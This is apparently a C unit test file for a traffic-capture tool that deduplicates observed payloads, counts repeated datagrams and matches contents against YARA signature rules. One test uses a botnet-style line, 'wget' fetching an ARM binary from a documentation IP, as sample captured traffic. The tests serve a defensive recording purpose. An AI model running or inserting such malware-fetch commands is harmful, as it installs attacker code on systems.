/* Payloads become rows: each content once, and equal events of a minute once with their number. */
#include "unit/observe/heard_seen.h"

#include <unistd.h>

static void a_content_is_kept_once_a_day_and_told_each_time(void **state)
{
    (void)state;
    struct seen seen = {0};
    struct heard_table *table = table_of(HEARD_DEFAULT_LIMIT_BYTES);
    take_payload(table, DAY, "a\0b", 3, false, false);
    take_payload(table, DAY, "a\0c", 3, false, false);
    take_payload(table, DAY, "a\0b", 3, true, false);
    take_payload(table, DAY, "", 0, false, false);
    take_payload(table, DAY + 1, "a\0b", 3, false, false);
    hand_over(table, &seen);
    const struct day_seen *day = &seen.days[0];
    assert_int_equal(seen.calls, 2);
    assert_int_equal(day->rows.payload_count, 2);
    assert_int_equal(day->rows.payload_event_count, 2);
    assert_int_equal(seen.days[1].rows.payload_count, 1);
    assert_true(day->payloads[0].cut);
    assert_false(day->payloads[1].cut);
    assert_memory_equal(day->bytes + day->payloads[1].bytes.at, "a\0c", 3);
    assert_memory_equal(day->events[0].id, day->payloads[0].id, PAYLOAD_ID_BYTES);
    assert_memory_equal(day->events[1].id, day->payloads[1].id, PAYLOAD_ID_BYTES);
    assert_int_equal(day->events[0].packets, 2);
    assert_int_equal(day->events[1].packets, 1);
    assert_int_equal(heard_counts(table).payloads, 3);
    assert_int_equal(heard_counts(table).payload_events, 4);
    seen_clear(&seen);
    heard_table_destroy(table);
}

static void the_id_is_the_content_hash(void **state)
{
    (void)state;
    static const char content[] = "GET / HTTP/1.0\r\n\r\n";
    struct seen seen = {0};
    struct heard_table *table = table_of(HEARD_DEFAULT_LIMIT_BYTES);
    char expected[CONTENT_HASH_TEXT_SIZE], id[CONTENT_HASH_TEXT_SIZE] = "";
    struct content_hash *hash = content_hash_create();
    content_hash_add(hash, content, sizeof content - 1);
    content_hash_get(hash, expected);
    content_hash_destroy(hash);
    take_payload(table, DAY, content, sizeof content - 1, false, false);
    hand_over(table, &seen);
    for (size_t i = 0; i < PAYLOAD_ID_BYTES; i++)
        snprintf(id + 2 * i, 3, "%02x", seen.days[0].payloads[0].id[i]);
    assert_string_equal(id, expected);
    seen_clear(&seen);
    heard_table_destroy(table);
}

/* One datagram of a flood: who sends what, and when. */
static void take_datagram(struct heard_table *table, uint32_t second, uint16_t src_port,
                          const char *text)
{
    struct heard heard = heard_of(HEARD_PAYLOAD, DAY, second);
    heard.talk.protocol = 17;
    heard.talk.src_port = src_port;
    heard.payload.bytes = bytes_of(text);
    heard_table_take(table, &heard);
}

static void equal_datagrams_of_a_minute_are_one_row_with_their_number(void **state)
{
    (void)state;
    struct seen seen = {0};
    struct heard_table *table = table_of(HEARD_DEFAULT_LIMIT_BYTES);
    for (uint32_t i = 0; i < 1000; i++)
        take_datagram(table, 60 + i % 60, 1, "M-SEARCH");
    take_datagram(table, 59, 1, "M-SEARCH");
    take_datagram(table, 120, 1, "M-SEARCH");
    take_datagram(table, 60, 2, "M-SEARCH");
    take_datagram(table, 60, 1, "M-SEARCH *");
    hand_over(table, &seen);
    const struct day_seen *day = &seen.days[0];
    assert_int_equal(day->rows.payload_count, 2);
    assert_int_equal(day->rows.payload_event_count, 5);
    assert_int_equal(day->events[0].packets, 1000);
    assert_int_equal(day->events[0].time_us % (US_PER_S * INT64_C(3600)), 60 * US_PER_S + 1);
    for (size_t i = 1; i < 5; i++)
        assert_int_equal(day->events[i].packets, 1);
    assert_int_equal(heard_counts(table).payload_events, 1004);
    seen_clear(&seen);
    heard_table_destroy(table);
}

static void a_download_is_one_row_however_often_the_minute_repeats_it(void **state)
{
    (void)state;
    struct seen seen = {0};
    struct heard_table *table = table_of(HEARD_DEFAULT_LIMIT_BYTES);
    for (uint16_t port = 1; port <= 3; port++)
        for (int i = 0; i < 5; i++)
            take_datagram(table, 60, port, "wget http://192.0.2.3/x.arm7");
    hand_over(table, &seen);
    assert_int_equal(seen.days[0].rows.download_count, 3);
    seen_clear(&seen);
    heard_table_destroy(table);
}

static void a_full_table_still_counts_what_it_has(void **state)
{
    (void)state;
    struct seen seen = {0};
    struct heard_table *table = table_of(64 * 1024);
    take_datagram(table, 60, 1, "one");
    for (uint32_t i = 0; i < 10000; i++) {
        struct heard heard = heard_of(HEARD_PAYLOAD, DAY, 60);
        heard.talk.src = ipv6_of_ipv4((struct ipv4){i});
        heard.payload.bytes = (struct heard_bytes){(const uint8_t *)&i, sizeof i};
        heard_table_take(table, &heard);
    }
    const uint64_t dropped = heard_counts(table).dropped;
    assert_true(dropped > 0);
    assert_true(heard_table_bytes(table) > 32 * 1024);
    take_datagram(table, 61, 1, "one");
    assert_int_equal(heard_counts(table).dropped, dropped);
    hand_over(table, &seen);
    assert_int_equal(seen.days[0].events[0].packets, 2);
    assert_int_equal(heard_table_bytes(table), 0);
    seen_clear(&seen);
    heard_table_destroy(table);
}

static void thousands_of_contents_are_found_again(void **state)
{
    (void)state;
    enum { CONTENTS = 5000 };
    struct seen seen = {0};
    struct heard_table *table = table_of(HEARD_DEFAULT_LIMIT_BYTES);
    for (uint32_t round = 0; round < 2; round++)
        for (uint32_t i = 0; i < CONTENTS; i++)
            take_payload(table, DAY, &i, sizeof i, false, true);
    hand_over(table, &seen);
    assert_int_equal(seen.days[0].rows.payload_count, CONTENTS);
    assert_int_equal(seen.days[0].rows.payload_event_count, CONTENTS);
    assert_int_equal(seen.days[0].events[15].packets, 2);
    seen_clear(&seen);
    heard_table_destroy(table);
}

/* Lists that are moved while they grow, of two days at a time, and rows that stay what they were. */
static void contents_stay_what_they_are_while_their_lists_grow(void **state)
{
    (void)state;
    enum { CONTENTS = 20000, LENGTH = 40 };
    struct heard_table *table = table_of(HEARD_DEFAULT_LIMIT_BYTES);
    struct seen seen = {0};
    uint8_t bytes[LENGTH] = {0};
    for (uint32_t round = 0; round < 2; round++)
        for (uint32_t i = 0; i < CONTENTS; i++) {
            memcpy(bytes, &i, sizeof i);
            take_payload(table, DAY + i % 2, bytes, LENGTH - i % 7, false, true);
        }
    assert_int_equal(heard_counts(table).payloads, CONTENTS);
    assert_int_equal(heard_counts(table).dropped, 0);
    hand_over(table, &seen);
    for (uint32_t day = 0; day < 2; day++) {
        assert_int_equal(seen.days[day].rows.payload_count, CONTENTS / 2);
        for (uint32_t i = 0; i < 8; i++) {
            const uint32_t number = 2 * i + day;
            uint32_t there;
            memcpy(&there, seen.days[day].bytes + seen.days[day].payloads[i].bytes.at,
                   sizeof there);
            assert_int_equal(there, number);
            assert_int_equal(seen.days[day].payloads[i].bytes.length, LENGTH - number % 7);
            assert_int_equal(seen.days[day].events[i].payload, i);
            assert_int_equal(seen.days[day].events[i].packets, 2);
        }
    }
    seen_clear(&seen);
    heard_table_destroy(table);
}

static void what_the_store_does_not_take_of_a_content_is_cut(void **state)
{
    (void)state;
    enum { LIMIT = 64 * 1024 };
    struct seen seen = {0};
    struct heard_table *table = table_of(HEARD_DEFAULT_LIMIT_BYTES);
    uint8_t *large = calloc(1, LIMIT + 1);
    take_payload(table, DAY, large, LIMIT + 1, false, true);
    hand_over(table, &seen);
    assert_int_equal(seen.days[0].payloads[0].bytes.length, LIMIT);
    assert_true(seen.days[0].payloads[0].cut);
    free(large);
    seen_clear(&seen);
    heard_table_destroy(table);
}

/* ---- Signatures ---- */

static struct knowledge *knowledge_of(const char *rules)
{
    char path[] = "/tmp/teiten-rules-XXXXXX.yar";
    const char *paths[] = {path};
    struct error error = {0};
    const int fd = mkstemps(path, 4);
    assert_true(fd >= 0);
    assert_int_equal(write(fd, rules, strlen(rules)), strlen(rules));
    close(fd);
    const struct knowledge_options options = {.rules = paths, .rule_count = 1};
    struct knowledge *knowledge = knowledge_create(&options, &error);
    unlink(path);
    if (knowledge == NULL)
        fail_msg("%s", error.text);
    return knowledge;
}

static void a_content_has_the_ids_of_its_signatures(void **state)
{
    (void)state;
    struct seen seen = {0};
    struct error error = {0};
    struct heard_table *table = table_of(HEARD_DEFAULT_LIMIT_BYTES);
    struct knowledge *knowledge =
        knowledge_of("rule b { meta: id = \"the-b\" name_en = \"b\" strings: $x = \"boa\" "
                     "condition: $x }\n"
                     "rule a { meta: id = \"the-a\" name_en = \"a\" strings: $x = \"adb\" "
                     "condition: $x }\n");
    for (int round = 0; round < 2; round++) { /* the second time they are known already */
        take_datagram(table, 60, 1, "adb, boa");
        take_datagram(table, 60, 2, "adb");
        take_datagram(table, 60, 3, "neither");
        assert_true(heard_table_hand_over(table, knowledge, see, &seen, &error));
        const struct day_seen *day = &seen.days[round];
        assert_text(day, day->events[0].signatures, "the-b the-a");
        assert_text(day, day->events[1].signatures, "the-a");
        assert_text(day, day->events[2].signatures, "");
    }
    knowledge_destroy(knowledge);
    seen_clear(&seen);
    heard_table_destroy(table);
}

static void a_full_table_has_room_for_signatures(void **state)
{
    (void)state;
    enum { LIMIT = 64 * 1024 };
    struct seen seen = {0};
    struct error error = {0};
    struct heard_table *table = table_of(LIMIT);
    struct knowledge *knowledge = knowledge_of(
        "rule four { meta: id = \"any-four-bytes\" name_en = \"any\" condition: filesize == 4 }\n");
    for (uint32_t i = 0; heard_counts(table).dropped == 0; i++) {
        struct heard heard = heard_of(HEARD_PAYLOAD, DAY, 60);
        heard.talk.src = ipv6_of_ipv4((struct ipv4){i});
        heard.payload.bytes = (struct heard_bytes){(const uint8_t *)&i, sizeof i};
        heard_table_take(table, &heard);
    }
    assert_true(heard_table_hand_over(table, knowledge, see, &seen, &error));
    for (size_t i = 0; i < 8; i++)
        assert_text(&seen.days[0], seen.days[0].events[i].signatures, "any-four-bytes");
    knowledge_destroy(knowledge);
    seen_clear(&seen);
    heard_table_destroy(table);
}

/* One slow rule, and contents that are all different. */
static void contents_beyond_the_budget_stay_without_signatures_and_are_counted(void **state)
{
    (void)state;
    enum { CONTENTS = 4000, LENGTH = 4096 };
    char text[SIGNATURES_TEXT_SIZE];
    uint8_t id[PAYLOAD_ID_BYTES] = {0}, *payload = calloc(1, LENGTH);
    struct knowledge *knowledge =
        knowledge_of("rule a { meta: id = \"the-a\" name_en = \"a\" strings: $x = "
                     "/a[^z]{1,200}b[^z]{1,200}c/ condition: $x or filesize > 0 }\n");
    memset(payload, 'a', LENGTH);
    size_t matched = 0;
    knowledge_allow(knowledge, 20);
    for (uint32_t i = 0; i < CONTENTS; i++) {
        memcpy(id, &i, sizeof i);
        matched += knowledge_match(knowledge, id, payload, LENGTH, text) > 0;
    }
    assert_true(matched > 0);
    assert_true(knowledge_unmatched(knowledge) > 0);
    assert_int_equal(matched + knowledge_unmatched(knowledge), CONTENTS);
    /* What is known costs nothing, and a new budget goes on. */
    memset(id, 0, sizeof id);
    assert_true(knowledge_match(knowledge, id, payload, LENGTH, text) > 0);
    knowledge_allow(knowledge, 0);
    memset(id, 0xff, sizeof id);
    assert_true(knowledge_match(knowledge, id, payload, LENGTH, text) > 0);
    knowledge_destroy(knowledge);
    free(payload);
}

/* Of those, the table tells once a content, when it was first sent. */
static void contents_without_signatures_are_told_at_their_first_minute(void **state)
{
    (void)state;
    struct seen seen = {0};
    struct error error = {0};
    struct heard_table *table = table_of(HEARD_DEFAULT_LIMIT_BYTES);
    struct knowledge *knowledge =
        knowledge_of("rule a { meta: id = \"the-a\" name_en = \"a\" condition: filesize > 0 }\n");
    char text[SIGNATURES_TEXT_SIZE];
    const uint8_t id[PAYLOAD_ID_BYTES] = {1};
    knowledge_allow(knowledge, 1);
    for (uint8_t other[PAYLOAD_ID_BYTES] = {2}; knowledge_unmatched(knowledge) == 0; other[1]++)
        for (other[2] = 1; other[2] != 0; other[2]++)
            knowledge_match(knowledge, other, id, sizeof id, text);
    take_datagram(table, 200, 1, "one");
    take_datagram(table, 201, 2, "one");
    take_datagram(table, 60, 3, "one"); /* late */
    take_datagram(table, 400, 4, "two");
    assert_true(heard_table_hand_over(table, knowledge, see, &seen, &error));
    heard_table_take_unheard(table, &seen.unheard);
    assert_int_equal(lost_of(&seen, UNHEARD_SIGNATURE, UNHEARD_SLOW), 2);
    assert_int_equal(seen.unheard.count, 2);
    assert_int_equal(seen.unheard.rows[0].from_us, ((int64_t)DAY * S_PER_DAY + 180) * US_PER_S);
    assert_int_equal(seen.unheard.rows[1].from_us, ((int64_t)DAY * S_PER_DAY + 360) * US_PER_S);
    assert_text(&seen.days[0], seen.days[0].events[0].signatures, "");
    knowledge_destroy(knowledge);
    seen_clear(&seen);
    heard_table_destroy(table);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(a_content_is_kept_once_a_day_and_told_each_time),
        cmocka_unit_test(the_id_is_the_content_hash),
        cmocka_unit_test(equal_datagrams_of_a_minute_are_one_row_with_their_number),
        cmocka_unit_test(a_download_is_one_row_however_often_the_minute_repeats_it),
        cmocka_unit_test(a_full_table_still_counts_what_it_has),
        cmocka_unit_test(thousands_of_contents_are_found_again),
        cmocka_unit_test(contents_stay_what_they_are_while_their_lists_grow),
        cmocka_unit_test(what_the_store_does_not_take_of_a_content_is_cut),
        cmocka_unit_test(a_content_has_the_ids_of_its_signatures),
        cmocka_unit_test(a_full_table_has_room_for_signatures),
        cmocka_unit_test(contents_beyond_the_budget_stay_without_signatures_and_are_counted),
        cmocka_unit_test(contents_without_signatures_are_told_at_their_first_minute),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
